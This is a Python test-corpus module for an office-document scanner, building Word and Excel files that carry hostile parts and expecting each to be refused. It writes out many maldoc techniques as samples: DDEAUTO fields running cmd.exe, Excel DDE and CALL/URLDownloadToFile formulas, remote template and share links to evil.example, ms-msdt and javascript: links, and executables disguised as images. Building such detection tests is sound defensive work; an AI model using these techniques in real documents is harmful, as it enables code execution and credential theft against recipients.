"""Office documents by their parts, relations, fields and formulas: those that act, and those that only look odd."""

from collections.abc import Callable, Mapping
from functools import partial
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from storage.documents.checks.refusals import Reason
from tests.storage.documents.corpus.case import Case
from tests.storage.documents.corpus.making import EXCEL, OOXML, TYPES, WORD, archive, blank_pdf, word

PROGRAM = b"MZ\x90\0" + bytes(60)
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60)
HTA = b"<html><script>new ActiveXObject('WScript.Shell')</script></html>"
SHEET = '<?xml version="1.0"?><worksheet><sheetData><row><c>{}</c></row></sheetData></worksheet>'
DOCUMENT = '<?xml version="1.0"?><w:document xmlns:w="urn:w" xmlns:v="urn:v" xmlns:o="urn:o">{}</w:document>'
RELATIONS = "word/_rels/document.xml.rels"


def typed(overrides: Mapping[str, str]) -> bytes:
    """`[Content_Types].xml` of a Word document with more parts."""
    more = "".join(f'<Override PartName="/{part}" ContentType="{kind}"/>' for part, kind in overrides.items())
    return TYPES.format("word/document.xml", WORD).replace("</Types>", f"{more}</Types>").encode()


def with_parts(parts: Mapping[str, tuple[str, bytes]]) -> bytes:
    """A Word document with more parts, each with its declared type."""
    members = {"[Content_Types].xml": typed({name: kind for name, (kind, _) in parts.items()})}
    members["word/document.xml"] = DOCUMENT.format("").encode()
    return archive(members | {name: content for name, (_, content) in parts.items()})


def workbook(parts: Mapping[str, tuple[str, bytes]], *, cell: str = "<v>1</v>") -> bytes:
    """An Excel workbook with one cell and more parts."""
    sheet = "xl/worksheets/sheet1.xml"
    overrides = {sheet: f"{OOXML}.spreadsheetml.worksheet+xml"} | {name: kind for name, (kind, _) in parts.items()}
    more = "".join(f'<Override PartName="/{part}" ContentType="{kind}"/>' for part, kind in overrides.items())
    types = TYPES.format("xl/workbook.xml", EXCEL).replace("</Types>", f"{more}</Types>").encode()
    members = {"[Content_Types].xml": types, "xl/workbook.xml": b"<workbook/>", sheet: SHEET.format(cell).encode()}
    return archive(members | {name: content for name, (_, content) in parts.items()})


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    """A Word document with one relation."""
    said = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}"{mode}/></Relationships>'
    )
    return word({RELATIONS: said.encode()})


def written(body: str) -> bytes:
    """A Word document of this body."""
    return word(body=DOCUMENT.format(body).encode())


def field(*pieces: str) -> str:
    """A field of Word whose instruction is cut in these pieces."""
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begun, ended = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return f"<w:p>{begun}{said}{ended}</w:p>"


def odd_names() -> bytes:
    """Two parts whose names differ by their case alone."""
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as out:
        out.writestr(ZipInfo("[Content_Types].xml"), typed({}))
        out.writestr(ZipInfo("word/document.xml"), DOCUMENT.format(""))
        out.writestr(ZipInfo("word/Document.xml"), DOCUMENT.format(""))
    return made.getvalue()


XML = "application/xml"
HOSTILE_PARTS: Mapping[str, tuple[str, str, bytes]] = {
    "a macro under capitals": ("WORD/VBAPROJECT.BIN", f"{OOXML}.spreadsheetml.printerSettings", b"x"),
    "a macro under another name": ("word/style2.bin", "application/vnd.ms-office.vbaProject", b"x"),
    "macros' data": ("word/notes.xml", "application/vnd.ms-word.vbaData+xml", b"<a/>"),
    "keys that start macros": ("word/keys.xml", "application/vnd.ms-word.keyMapCustomizations+xml", b"<a/>"),
    "an ActiveX under another name": ("word/shapes1.xml", "application/vnd.ms-office.activeX+xml", b"<a/>"),
    "a custom ribbon": ("customUI/customUI14.xml", XML, b"<customUI onLoad='x'/>"),
    "an add-in of the web": ("word/extension.xml", "application/vnd.ms-office.webextension+xml", b"<a/>"),
    "its panel": ("word/panes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", b"<a/>"),
    "a page to include": ("word/afchunk.mht", "message/rfc822", b"MIME-Version: 1.0"),
    "an HTML page to include": ("word/chunk.html", "text/html", HTA),
    "an RTF to include": ("word/chunk.rtf", "application/rtf", b"{\\rtf1}"),
    "an embedded program": ("word/embeddings/setup.exe", "application/octet-stream", PROGRAM),
    "an embedded screen saver": ("word/embeddings/a.scr", "application/octet-stream", PROGRAM),
    "an embedded HTA": ("word/embeddings/a.hta", "application/hta", HTA),
    "an embedded HTA under capitals": ("word/embeddings/A.HTA", "application/hta", HTA),
    "an embedded shortcut": ("word/embeddings/a.lnk", "application/octet-stream", b"L\0\0\0"),
    "an embedded script": ("word/embeddings/a.ps1", "text/plain", b"calc"),
    "an embedded DOCM": ("word/embeddings/a.docm", "application/vnd.ms-word.document.macroEnabled.12", word()),
    "an embedded XLSM": ("word/embeddings/a.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", workbook({})),
    "an embedded old document": ("word/embeddings/a.doc", "application/msword", OLD),
    "an embedded object": ("word/embeddings/oleObject1.bin", f"{OOXML}.oleObject", OLD),
    "an embedded object called a picture": ("word/media/image1.png", "image/png", OLD),
    "a program called a picture": ("word/media/image1.png", "image/png", PROGRAM),
    "a page called a picture": ("word/media/image1.jpeg", "image/jpeg", HTA),
    "an archive called a picture": ("word/media/image1.png", "image/png", archive({"a.exe": PROGRAM})),
    "a program called a printer's settings": ("word/printer1.bin", f"{OOXML}.oleObject", PROGRAM),
    "a part of no type": ("word/inconnu.dat", "", b"x"),
    "a piece of a part": ("word/document.xml/[0].piece", XML, b"<a/>"),
    "a picture that runs (SVG)": ("word/media/a.svg", "image/svg+xml", b"<svg><script>x</script></svg>"),
    "a picture that listens (SVG)": ("word/media/a.svg", "image/svg+xml", b"<svg onload='x()'/>"),
    "a picture that fetches (SVG)": (
        "word/media/a.svg",
        "image/svg+xml",
        b"<svg><image href='http://e.example/a'/></svg>",
    ),
    "an entity in a header": (
        "word/header1.xml",
        f"{OOXML}.wordprocessingml.header+xml",
        b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>",
    ),
}
HOSTILE_RELATIONS: Mapping[str, bytes] = {
    "a mode with a blank": related("image", "http://evil.example/p", ' TargetMode=" External"'),
    "a mode with a blank after": related("image", "http://evil.example/p", ' TargetMode="External "'),
    "a mode in capitals": related("image", "http://evil.example/p", ' TargetMode="EXTERNAL"'),
    "a mode by an entity": related("image", "http://evil.example/p", ' TargetMode="&#69;xternal"'),
    "a mode that nobody knows": related("image", "http://evil.example/p", ' TargetMode="Outside"'),
    "no mode, and an address": related("image", "http://evil.example/p", ""),
    "an internal address": related("image", "https://evil.example/p", ' TargetMode="Internal"'),
    "an internal share": related("image", "\\\\evil.example\\a\\p.png", ' TargetMode="Internal"'),
    "a template on a share": related("attachedTemplate", "\\\\evil.example\\a\\t.dotm"),
    "a template on a share by file:": related("attachedTemplate", "file://evil.example/a/t.dotm"),
    "a template on a share by four slashes": related("attachedTemplate", "file:////evil.example/a/t.dotm"),
    "a template on the web (WebDAV)": related("attachedTemplate", "https://evil.example/t.dotx"),
    "a frame": related("frame", "http://evil.example/"),
    "a sub-document": related("subDocument", "file:///C:/a.docx"),
    "an object to fetch": related("oleObject", "mhtml:http://evil.example/a.html!x-usc:http://evil.example/b"),
    "a page to include": related("aFChunk", "afchunk.mht", ""),
    "a control": related("control", "media/shape.xml", ""),
    "macros by a relation of another name": related("vbaProject", "media/image1.png", ""),
    "a source of letters to many": related("mailMergeSource", "file:///C:/a.csv"),
    "a link that runs": related("hyperlink", "javascript:alert(1)"),
    "a link that runs, hidden by blanks": related("hyperlink", "java&#9;script:alert(1)"),
    "a link to a share": related("hyperlink", "\\\\evil.example\\a\\b.docx"),
    "a link to a share by file:": related("hyperlink", "file://evil.example/a/b.docx"),
    "a link to a program": related("hyperlink", "setup.exe"),
    "a link to a program of the disk": related("hyperlink", "file:///C:/Windows/System32/calc.exe"),
    "a link to Windows' search": related("hyperlink", "search-ms:query=a&amp;crumb=location:\\\\evil.example"),
    "a link to a tool of Windows": related("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "a link that Word opens": related("hyperlink", "ms-word:ofe|u|http://evil.example/a.docm"),
    "a font to fetch": related("font", "http://evil.example/a.odttf"),
}
HOSTILE_WORDS: Mapping[str, str] = {
    "DDEAUTO": field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    "DDE": field('DDE excel "a" "b"'),
    "DDEAUTO cut in pieces": field("DD", "EAU", "TO", " c:\\\\cmd.exe"),
    "DDEAUTO in small letters": field(' ddeauto c:\\\\cmd.exe "/k"'),
    "DDEAUTO between quotes": field('"DDEAUTO" c:\\\\cmd.exe'),
    "DDEAUTO by entities": field("&#68;&#68;&#69;AUTO c:\\\\cmd.exe"),
    "DDE in a simple field": '<w:fldSimple w:instr="DDEAUTO cmd.exe"/>',
    "DDE under another prefix": '<z:fldSimple xmlns:z="urn:w" z:instr=" DDE cmd"/>',
    "DDE inside IF": field("IF 1=1 ").replace("</w:p>", "") + field("DDE cmd"),
    "a field that computes what it does": "<w:p>"
    + '<w:fldChar w:fldCharType="begin"/>' * 2
    + "<w:instrText>QUOTE 68 68 69</w:instrText>"
    + '<w:fldChar w:fldCharType="end"/>' * 2
    + "</w:p>",
    "INCLUDEPICTURE": field('INCLUDEPICTURE "http://evil.example/p.png" \\\\d'),
    "INCLUDEPICTURE of a share": field('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a\\\\p.png"'),
    "INCLUDEPICTURE without quotes": field("INCLUDEPICTURE https://evil.example/p.png"),
    "INCLUDETEXT": field('INCLUDETEXT "C:\\\\secrets.docx"'),
    "INCLUDE": field("INCLUDE C:\\\\secrets.docx"),
    "IMPORT": field('IMPORT "http://evil.example/p.wmf"'),
    "LINK": field('LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\a.xlsx" Feuil1'),
    "DATABASE": field('DATABASE \\d "C:\\\\a.mdb"'),
    "PRINT": field('PRINT "\\27E"'),
    "a link by a field": field('HYPERLINK "javascript:alert(1)"'),
    "a link by a field to a share": field('HYPERLINK "\\\\\\\\evil.example\\\\a"'),
    "a deleted DDE": "<w:p><w:del><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:del></w:p>",
    "an object linked": '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12"/>',
    "a chunk to include": '<w:altChunk r:id="r1" xmlns:r="urn:r"/>',
    "a letter to many": "<w:mailMerge><w:connectString/></w:mailMerge>",
    "a picture of VML to fetch": '<v:imagedata src="http://evil.example/p.png"/>',
    "a picture of VML on a share": '<v:imagedata o:href="//evil.example/a/p.png"/>',
    "a filling of VML to fetch": '<v:fill src="https://evil.example/p.png"/>',
}
HOSTILE_CELLS: Mapping[str, str] = {
    "DDE": "<f>cmd|'/c calc'!A0</f>",
    "DDE in capitals, after a sum": "<f>1+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''</f>",
    "WEBSERVICE": '<f>_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)</f>',
    "WEBSERVICE in small letters": '<f>webservice ("http://evil.example/")</f>',
    "IMAGE": '<f>_xlfn.IMAGE("http://evil.example/p.png")</f>',
    "RTD": '<f>RTD("a.b",,"c")</f>',
    "CALL": '<f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)</f>',
    "REGISTER.ID": '<f>REGISTER.ID("kernel32","WinExec")</f>',
    "EXEC": '<f>EXEC("calc")</f>',
    "a link to a share": '<f>HYPERLINK("\\\\evil.example\\a","Cliquez")</f>',
    "a link to a program": '<f>HYPERLINK("file:///C:/Windows/System32/calc.exe","Cliquez")</f>',
    "a sheet on the web": "<f>'https://evil.example/[a.xlsx]Feuil1'!A1</f>",
    "a sheet on a share": "<f>'\\\\evil.example\\a\\[a.xlsx]Feuil1'!A1</f>",
    "a rule of validation by DDE": "<formula1>cmd|'/c calc'!A0</formula1>",
}
EXTERNAL = f"{OOXML}.spreadsheetml.externalLink+xml"
HOSTILE_SHEETS: Mapping[str, tuple[str, str, bytes]] = {
    "a link by DDE": (
        "xl/externalLinks/externalLink1.xml",
        EXTERNAL,
        b"<externalLink><ddeLink ddeService='cmd'/></externalLink>",
    ),
    "a link by OLE": ("xl/externalLinks/externalLink1.xml", EXTERNAL, b"<externalLink><oleLink/></externalLink>"),
    "connections": ("xl/connections.xml", f"{OOXML}.spreadsheetml.connections+xml", b"<connections/>"),
    "a query": ("xl/queryTables/q.xml", f"{OOXML}.spreadsheetml.queryTable+xml", b"<queryTable/>"),
    "a sheet of macros": ("xl/sheets/m.xml", "application/vnd.ms-excel.macrosheet+xml", b"<a/>"),
    "a sheet of macros in another language": ("xl/m.xml", "application/vnd.ms-excel.intlmacrosheet+xml", b"<a/>"),
    "a sheet of dialogue": ("xl/d.xml", f"{OOXML}.spreadsheetml.dialogsheet+xml", b"<a/>"),
    "data that come again": ("xl/v.xml", f"{OOXML}.spreadsheetml.volatileDependencies+xml", b"<a/>"),
    "pictures of the web": ("xl/richData/w.xml", "application/vnd.ms-excel.rdrichvaluewebimage+xml", b"<a/>"),
    "a model of data": ("xl/model/item.data", "application/vnd.ms-excel.model+data", b"x"),
    "a named DDE": ("xl/names.xml", XML, b"<a><definedName name='x'>cmd|'/c calc'!A0</definedName></a>"),
}


def each(
    about: str, name: str, made: Mapping[str, Callable[[], bytes]], verdict: Reason | None = None
) -> tuple[Case, ...]:
    return tuple(Case(f"{about} with {what}", name, make, verdict) for what, make in made.items())


def parts_of(
    listed: Mapping[str, tuple[str, str, bytes]], make: Callable[..., bytes]
) -> dict[str, Callable[[], bytes]]:
    return {what: partial(make, {name: (kind, content)}) for what, (name, kind, content) in listed.items()}


def kept(listed: Mapping[str, bytes]) -> dict[str, Callable[[], bytes]]:
    return {what: partial(bytes, content) for what, content in listed.items()}


CASES = (
    *each("a Word document", "a.docx", parts_of(HOSTILE_PARTS, with_parts), Reason.ACTIVE),
    *each("a Word document", "a.docx", kept(HOSTILE_RELATIONS), Reason.ACTIVE),
    *each("a text", "a.docx", {what: partial(written, body) for what, body in HOSTILE_WORDS.items()}, Reason.ACTIVE),
    *each(
        "a cell",
        "a.xlsx",
        {what: partial(workbook, {}, cell=cell) for what, cell in HOSTILE_CELLS.items()},
        Reason.ACTIVE,
    ),
    *each("a workbook", "a.xlsx", parts_of(HOSTILE_SHEETS, workbook), Reason.ACTIVE),
    Case("relations under capitals", "a.docx", lambda: word({"word/_rels/document.xml.RELS": _evil()}), Reason.ACTIVE),
    Case(
        "relations under a percent", "a.docx", lambda: word({"word/_rels/document.xml%2erels": _evil()}), Reason.ACTIVE
    ),
    Case(
        "relations in a folder in capitals",
        "a.docx",
        lambda: word({"word/_RELS/document.xml.Rels": _evil()}),
        Reason.ACTIVE,
    ),
    Case("two parts of one name", "a.docx", odd_names, Reason.UNREADABLE),
    Case(
        "a document that carries one with macros",
        "a.docx",
        lambda: _carrying(word({"word/vbaProject.bin": b"x"})),
        Reason.ACTIVE,
    ),
    Case("a document that carries a program", "a.docx", lambda: _carrying(PROGRAM), Reason.DISGUISED),
    Case("a document that carries a PDF called a workbook", "a.docx", lambda: _carrying(blank_pdf()), Reason.DISGUISED),
)


def _evil() -> bytes:
    return (
        b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )


def _carrying(content: bytes) -> bytes:
    return with_parts({"word/embeddings/Feuille.xlsx": (f"{OOXML}.spreadsheetml.sheet", content)})
